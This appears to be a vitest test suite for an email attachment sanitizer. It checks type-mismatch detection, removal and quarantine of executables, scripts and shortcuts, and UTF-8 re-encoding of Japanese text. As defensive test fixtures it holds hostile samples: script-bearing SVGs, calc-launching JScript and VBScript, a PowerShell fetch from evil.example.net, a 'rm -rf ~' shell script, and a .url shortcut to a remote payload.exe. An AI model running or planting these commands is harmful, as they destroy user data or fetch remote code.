// Attachments end to end: what an attachment is comes from its bytes, lies in
// its declared type or name are reported, everything that is not an image or
// text is removed (the original kept in quarantine), and text crosses as UTF-8.
import Encoding from 'encoding-japanese';
import iconv from 'iconv-lite';
import { PDFDocument } from 'pdf-lib';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { violations } from '../helpers/conformance.js';
import { run, withAttachments, type Outcome, type PartSpec } from '../helpers/run.js';

const ALLOWED = ['text/plain', 'image/png', 'image/jpeg', 'application/pdf'];

/** Sanitizes raw bytes and checks what must hold for every delivered message. */
async function sanitized(raw: Buffer): Promise<Outcome> {
  const o = await run(raw);
  expect(o.result.action).toBe('deliver');
  expect(await violations(o.raw!)).toEqual([]);
  for (const a of o.mail!.attachments) expect(ALLOWED).toContain(a.contentType);
  // Whatever was found, the original is kept, byte for byte.
  if (o.result.findings.length > 0) {
    expect(o.result.quarantineId).not.toBeNull();
    const kept = await o.h.store.get(o.result.quarantineId!);
    expect(kept.raw.equals(raw)).toBe(true);
  }
  return o;
}

const send = (parts: PartSpec[]): Promise<Outcome> => sanitized(withAttachments('添付ファイルを送ります。', parts));

const findingsOf = (o: Outcome, index: number) => o.result.findings.filter((f) => f.attachment === index);
const codesOf = (o: Outcome, index: number) => findingsOf(o, index).map((f) => f.code);

// --- real bytes of things that must not cross --------------------------------

/** MZ header, DOS stub and a PE signature: what file-type calls exe. */
const exe = (): Buffer => {
  const b = Buffer.alloc(1024);
  b.write('MZ', 0, 'latin1');
  b.writeUInt16LE(0x90, 2);
  b.writeUInt32LE(0x80, 0x3c);
  b.write('This program cannot be run in DOS mode.\r\r\n$', 0x4e, 'latin1');
  b.write('PE\0\0', 0x80, 'latin1');
  b.writeUInt16LE(0x8664, 0x84);
  return b;
};

/** A Windows shell link header (4C 00 00 00, then the LNK CLSID). */
const lnk = (): Buffer => {
  const b = Buffer.alloc(200);
  Buffer.from([0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46]).copy(b);
  b.write('C:\\Windows\\System32\\cmd.exe', 100, 'utf16le');
  return b;
};

/** An ISO 9660 image: 16 empty sectors, then a primary volume descriptor. */
const iso = (): Buffer => {
  const b = Buffer.alloc(0x8000 + 2048 * 2);
  b[0x8000] = 1;
  b.write('CD001', 0x8001, 'latin1');
  b[0x8006] = 1;
  b.write('INVOICE', 0x8028, 'latin1');
  b[0x8800] = 255;
  b.write('CD001', 0x8801, 'latin1');
  return b;
};

const pdf = async (): Promise<Buffer> => {
  const doc = await PDFDocument.create();
  doc.addPage().drawText('Invoice 2026-04');
  doc.setAuthor('Sender');
  return Buffer.from(await doc.save());
};

/** Seeded bytes that no magic number matches. */
const junk = (n: number, seed = 1): Buffer => {
  const b = Buffer.alloc(n);
  let x = seed;
  for (let i = 0; i < n; i++) {
    x = (x * 1103515245 + 12345) >>> 0;
    b[i] = (x >>> 16) & 0xff;
  }
  b[0] = 0x00; // no magic starts with a NUL and a random byte
  return b;
};

describe('lying declared types and names', () => {
  it('removes an EXE named photo.jpg declared image/jpeg, reporting the lie', async () => {
    const o = await send([{ type: 'image/jpeg', filename: 'photo.jpg', body: exe() }]);
    expect(codesOf(o, 1)).toEqual(['type-mismatch', 'attachment-removed']);
    const [lie, removed] = findingsOf(o, 1);
    expect(lie!.detail).toMatch(/declared image\/jpeg/);
    expect(lie!.detail).toMatch(/named \.jpg/);
    expect(lie!.detail).toMatch(/application\/x-msdownload/);
    expect(removed!.detail).toBe('executable');
    expect(o.mail!.attachments).toEqual([]);
    expect(o.result.verdict).toBe('sanitized');
  });

  it('removes 請求書.pdf.exe declared application/pdf (the sample 08 disguise)', async () => {
    const o = await send([{ type: 'application/pdf', filename: '請求書.pdf.exe', body: exe() }]);
    expect(codesOf(o, 1).sort()).toEqual(['attachment-removed', 'name-double-extension', 'type-mismatch']);
    expect(findingsOf(o, 1).find((f) => f.code === 'type-mismatch')!.detail).toMatch(/declared application\/pdf/);
    expect(o.mail!.attachments).toEqual([]);
  });

  it('delivers a real PNG named report.pdf declared application/pdf as PNG, reporting the lie', async () => {
    const png = await sharp({ create: { width: 12, height: 9, channels: 3, background: 'white' } })
      .png()
      .toBuffer();
    const o = await send([{ type: 'application/pdf', filename: 'report.pdf', body: png }]);
    expect(codesOf(o, 1)).toEqual(['type-mismatch', 'image-reencoded']);
    expect(findingsOf(o, 1)[0]!.detail).toBe('declared application/pdf, named .pdf, actually image/png');
    const a = o.mail!.attachments[0]!;
    expect([a.filename, a.contentType]).toEqual(['report.pdf.png', 'image/png']);
    expect(await sharp(a.content).metadata()).toMatchObject({ format: 'png', width: 12, height: 9 });
  });

  it('delivers a PNG declared application/octet-stream with no name, without a mismatch', async () => {
    const png = await sharp({ create: { width: 5, height: 5, channels: 3, background: 'white' } })
      .png()
      .toBuffer();
    const o = await send([{ type: 'application/octet-stream', body: png }]);
    expect(codesOf(o, 1)).toEqual(['image-reencoded']);
    expect(o.mail!.attachments.map((a) => a.contentType)).toEqual(['image/png']);
  });

  it('accepts a JPEG named .jpeg and declared image/jpg-ish types without a mismatch', async () => {
    const jpeg = await sharp({ create: { width: 5, height: 5, channels: 3, background: 'white' } })
      .jpeg()
      .toBuffer();
    const o = await send([
      { type: 'image/pjpeg', filename: 'a.jpeg', body: jpeg },
      { type: 'image/png', filename: 'b.png', body: jpeg },
    ]);
    expect(codesOf(o, 1)).toEqual(['image-reencoded']);
    // Image for image is no lie worth reporting; it becomes what it really is.
    expect(codesOf(o, 2)).toEqual(['image-reencoded']);
    expect(o.mail!.attachments.map((a) => [a.filename, a.contentType])).toEqual([
      ['a.jpeg', 'image/jpeg'],
      ['b.png.jpg', 'image/jpeg'],
    ]);
  });

  it('removes a PDF named 議事録.txt declared text/plain, reporting both lies', async () => {
    const o = await send([{ type: 'text/plain', filename: '議事録.txt', body: await pdf() }]);
    // Documents are converted to image-only PDFs; this harness has no converter, so it is removed.
    expect(codesOf(o, 1)).toEqual(['type-mismatch', 'document-unconvertible']);
    expect(findingsOf(o, 1)[0]!.detail).toBe('declared text/plain, named .txt, actually application/pdf');
    expect(o.mail!.attachments).toEqual([]);
  });
});

describe('what is neither image, text, document nor container is removed, with its kind', () => {
  const cases: Array<{ what: string; part: () => Promise<PartSpec> | PartSpec; kind: string }> = [
    {
      what: 'SVG with <script>',
      kind: 'svg',
      part: () => ({
        type: 'image/svg+xml',
        filename: '避難所マップ.svg',
        body: '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script><rect width="10" height="10"/></svg>\n',
      }),
    },
    {
      what: 'SVG without an XML declaration, sent as image/png',
      kind: 'svg',
      part: () => ({ type: 'image/png', filename: 'logo.png', body: '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>' }),
    },
    { what: 'EXE', kind: 'executable', part: () => ({ type: 'application/octet-stream', filename: 'setup.exe', body: exe() }) },
    {
      what: 'ELF',
      kind: 'executable',
      part: () => ({ type: 'application/octet-stream', filename: 'tool', body: Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)]) }),
    },
    { what: 'LNK shortcut', kind: 'shortcut', part: () => ({ type: 'application/octet-stream', filename: '請求書.pdf.lnk', body: lnk() }) },
    { what: 'ISO image', kind: 'disk-image', part: () => ({ type: 'application/octet-stream', filename: 'invoice.iso', body: iso() }) },
    {
      what: 'a .js script in plain text',
      kind: 'script',
      part: () => ({ type: 'text/plain', filename: 'invoice.js', body: 'var s = new ActiveXObject("WScript.Shell");\ns.Run("calc.exe");\n' }),
    },
    { what: 'a .vbs script', kind: 'script', part: () => ({ type: 'text/vbscript', filename: 'a.vbs', body: 'CreateObject("WScript.Shell").Run "calc"\n' }) },
    { what: 'a .ps1 script', kind: 'script', part: () => ({ type: 'application/octet-stream', filename: 'a.ps1', body: 'Invoke-WebRequest https://evil.example.net/x\n' }) },
    {
      what: 'a .settingcontent-ms file (XML that runs a command)',
      kind: 'script',
      part: () => ({
        type: 'application/octet-stream',
        filename: '設定.settingcontent-ms',
        body: '<?xml version="1.0" encoding="UTF-8"?>\n<PCSettings><SearchableContent xmlns="http://schemas.microsoft.com/Search/2013/SettingContent"><ApplicationInformation><DeepLink>%windir%\\system32\\cmd.exe /c calc.exe</DeepLink></ApplicationInformation></SearchableContent></PCSettings>\n',
      }),
    },
    { what: 'a shebang script named .txt', kind: 'script', part: () => ({ type: 'text/plain', filename: 'notes.txt', body: '#!/bin/sh\nrm -rf ~\n' }) },
    {
      what: 'a .url internet shortcut',
      kind: 'shortcut',
      part: () => ({ type: 'application/internet-shortcut', filename: '共有フォルダ.url', body: '[InternetShortcut]\r\nURL=file://evil.example.net/share/payload.exe\r\nIconIndex=3\r\n' }),
    },
    {
      what: 'a .url internet shortcut named .txt',
      kind: 'shortcut',
      part: () => ({ type: 'text/plain', filename: 'link.txt', body: '[InternetShortcut]\r\nURL=https://evil.example.net/\r\n' }),
    },
    { what: 'unknown binary', kind: 'unknown', part: () => ({ type: 'application/octet-stream', filename: 'data.bin', body: junk(4096) }) },
  ];

  for (const c of cases) {
    it(`${c.what} -> attachment-removed (${c.kind})`, async () => {
      const part = await c.part();
      const o = await send([part]);
      const removed = findingsOf(o, 1).filter((f) => f.code === 'attachment-removed');
      expect(removed).toEqual([{ code: 'attachment-removed', attachment: 1, detail: c.kind }]);
      expect(o.mail!.attachments).toEqual([]);
      expect(o.result.verdict).toBe('sanitized');
      // The notice in the body names what was removed, and the body text survives.
      expect(o.mail!.text).toContain('添付ファイルを送ります。');
    });
  }

  it('removes the bad and keeps the good in one message, in order', async () => {
    const png = await sharp({ create: { width: 4, height: 4, channels: 3, background: 'white' } })
      .png()
      .toBuffer();
    const o = await send([
      { type: 'application/octet-stream', filename: 'a.exe', body: exe() },
      { type: 'image/png', filename: 'b.png', body: png },
      { type: 'application/pdf', filename: 'c.pdf', body: await pdf() },
      { type: 'text/plain; charset=utf-8', filename: 'd.txt', body: 'テキスト\n' },
    ]);
    expect(codesOf(o, 1)).toEqual(['attachment-removed']);
    expect(codesOf(o, 2)).toEqual(['image-reencoded']);
    expect(codesOf(o, 3)).toEqual(['document-unconvertible']);
    expect(codesOf(o, 4)).toEqual(['text-reencoded']);
    expect(o.mail!.attachments.map((a) => [a.filename, a.contentType])).toEqual([
      ['b.png', 'image/png'],
      ['d.txt', 'text/plain'],
    ]);
  });
});

describe('text attachments are decoded and cross as UTF-8 text/plain', () => {
  const JA = '会議資料：①髙橋様 ㈱例示 表ソ能 ～ 第３回\n二行目です。\n';
  const JA_0208 = '会議は明日です。表ソ能、予定表。\n二行目。\n';

  const deliveredText = (o: Outcome, i = 0): string => {
    const a = o.mail!.attachments[i]!;
    expect(a.contentType).toBe('text/plain');
    const ct = a.headers.get('content-type') as { params?: Record<string, string> };
    expect(ct.params?.charset?.toLowerCase()).toBe('utf-8');
    return new TextDecoder('utf-8', { fatal: true }).decode(a.content);
  };

  const cases: Array<{ what: string; type: string; body: Buffer; text: string; charset: string }> = [
    { what: 'UTF-8', type: 'text/plain; charset=utf-8', body: Buffer.from(JA, 'utf8'), text: JA, charset: 'UTF-8' },
    { what: 'UTF-8 with BOM, undeclared', type: 'text/plain', body: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(JA, 'utf8')]), text: JA, charset: 'UTF-8' },
    { what: 'Shift_JIS (CP932) declared', type: 'text/plain; charset=Shift_JIS', body: iconv.encode(JA, 'cp932'), text: JA, charset: 'CP932' },
    { what: 'Shift_JIS (CP932) undeclared', type: 'text/plain', body: iconv.encode(JA, 'cp932'), text: JA, charset: 'CP932' },
    { what: 'EUC-JP declared', type: 'text/plain; charset=EUC-JP', body: iconv.encode(JA_0208, 'euc-jp'), text: JA_0208, charset: 'EUCJP' },
    { what: 'EUC-JP undeclared', type: 'text/plain', body: iconv.encode(JA_0208, 'euc-jp'), text: JA_0208, charset: 'EUCJP' },
    {
      what: 'UTF-16LE with BOM',
      type: 'text/plain',
      body: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(JA, 'utf16le')]),
      text: JA,
      charset: 'UTF-16LE',
    },
    {
      what: 'UTF-16BE with BOM',
      type: 'text/plain; charset=utf-16',
      body: Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(JA, 'utf16le').swap16()]),
      text: JA,
      charset: 'UTF-16BE',
    },
    {
      what: 'UTF-16LE with BOM, ASCII only',
      type: 'text/plain',
      body: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('hello\r\nworld\r\n', 'utf16le')]),
      text: 'hello\nworld\n',
      charset: 'UTF-16LE',
    },
    {
      what: 'ISO-2022-JP declared',
      type: 'text/plain; charset=ISO-2022-JP',
      body: Buffer.from(Encoding.convert(Encoding.stringToCode(JA_0208), { to: 'JIS', from: 'UNICODE' }) as number[]),
      text: JA_0208,
      charset: 'ISO-2022-JP',
    },
    {
      what: 'ISO-2022-JP undeclared',
      type: 'text/plain',
      body: Buffer.from(Encoding.convert(Encoding.stringToCode(JA_0208), { to: 'JIS', from: 'UNICODE' }) as number[]),
      text: JA_0208,
      charset: 'ISO-2022-JP',
    },
  ];

  for (const c of cases) {
    it(`${c.what} -> UTF-8`, async () => {
      const o = await send([{ type: c.type, filename: 'メモ.txt', body: c.body }]);
      expect(findingsOf(o, 1)).toEqual([{ code: 'text-reencoded', attachment: 1, detail: `${c.charset} -> UTF-8` }]);
      expect(o.mail!.attachments.map((a) => a.filename)).toEqual(['メモ.txt']);
      expect(deliveredText(o)).toBe(c.text);
    });
  }

  it('turns CRLF into LF and keeps TAB', async () => {
    const o = await send([{ type: 'text/plain; charset=utf-8', filename: 'a.txt', body: 'col1\tcol2\r\nline2\r\n' }]);
    expect(deliveredText(o)).toBe('col1\tcol2\nline2\n');
  });

  it('removes ESC, BEL, BS, VT, DEL and C1 controls, and bidi overrides, from UTF-8 text', async () => {
    const filler = '本日の作業ログを添付します。確認をお願いします。\n'.repeat(4);
    const body = `${filler}見積\x1b[31m赤\x1b[0m\x07\x08\x0b終\x7f\u0085\u009b了 \u202Eabc\u202C\n`;
    const o = await send([{ type: 'text/plain; charset=utf-8', filename: 'a.txt', body }]);
    expect(codesOf(o, 1)).toEqual(['text-reencoded', 'control-chars-removed']);
    const text = deliveredText(o);
    expect(text).toBe(`${filler}見積[31m赤[0m終了 abc\n`);
    expect(findingsOf(o, 1)[1]!.detail).toBe('10');
  });

  it('removes a stray NUL from otherwise ordinary text', async () => {
    const body = Buffer.from('お知らせ\n本文です。\u0000\n以上\n', 'utf8');
    const o = await send([{ type: 'text/plain; charset=utf-8', filename: 'a.txt', body }]);
    expect(codesOf(o, 1)).toEqual(['text-reencoded', 'control-chars-removed']);
    expect(deliveredText(o)).toBe('お知らせ\n本文です。\n以上\n');
  });

  it('does not deliver binary junk named .txt as text', async () => {
    const highBytes = junk(2048, 11).map((b) => 0x80 | b);
    // A UTF-16 byte order mark in front of junk does not make it text.
    const bomJunk = Buffer.concat([Buffer.from([0xff, 0xfe]), junk(4096, 13)]);
    for (const body of [junk(2048, 7), Buffer.concat([Buffer.from('text at first\n'), junk(2048, 9)]), highBytes, bomJunk]) {
      const o = await send([{ type: 'text/plain', filename: 'notes.txt', body }]);
      const codes = codesOf(o, 1);
      expect(o.mail!.attachments).toEqual([]);
      const gone = findingsOf(o, 1).some((f) => (f.code === 'attachment-removed' && f.detail === 'unknown') || f.code === 'text-undecodable');
      expect(gone, codes.join(',')).toBe(true);
    }
  });

  it('delivers text that merely starts like an image or archive signature as text', async () => {
    // file-type alone calls anything starting "BM" a BMP and "GIF" a GIF.
    for (const body of ['BMI値の集計です。\n平均 22.1\n', 'BMW 見積\n', 'GIF画像の扱いについて\n', 'GIFU-2026 会議\n']) {
      const o = await send([{ type: 'text/plain; charset=utf-8', filename: 'memo.txt', body }]);
      expect(codesOf(o, 1), body).toEqual(['text-reencoded']);
      expect(deliveredText(o), body).toBe(body);
    }
  });

  it('does not let a lying charset label turn valid UTF-8 into mojibake', async () => {
    const o = await send([{ type: 'text/plain; charset=Shift_JIS', filename: 'a.txt', body: Buffer.from(JA, 'utf8') }]);
    expect(deliveredText(o)).toBe(JA);
  });

  it('delivers an empty text attachment as an empty text part', async () => {
    const o = await send([{ type: 'text/plain; charset=utf-8', filename: 'empty.txt', body: '' }]);
    expect(codesOf(o, 1)).toEqual(['text-reencoded']);
    expect(o.mail!.attachments.map((a) => a.filename)).toEqual(['empty.txt']);
  });

  it('names a text file by its real kind: .log becomes .log.txt', async () => {
    const o = await send([{ type: 'text/plain; charset=utf-8', filename: 'server.log', body: 'ok\n' }]);
    expect(o.mail!.attachments.map((a) => a.filename)).toEqual(['server.log.txt']);
  });
});

describe('ANSI colour codes in a UTF-8 log are not ISO-2022-JP', () => {
  it('keeps every letter and removes only the ESC controls', async () => {
    const o = await run(withAttachments('x', [{ type: 'text/plain; charset=utf-8', filename: 'build.log', body: 'status: \x1b[31mFAILED\x1b[0m (exit 2)\n' }]));
    const att = o.mail!.attachments[0]!;
    expect(att.content.toString('utf8')).toBe('status: [31mFAILED[0m (exit 2)\n');
    expect(o.codes).toContain('control-chars-removed');
  });
});
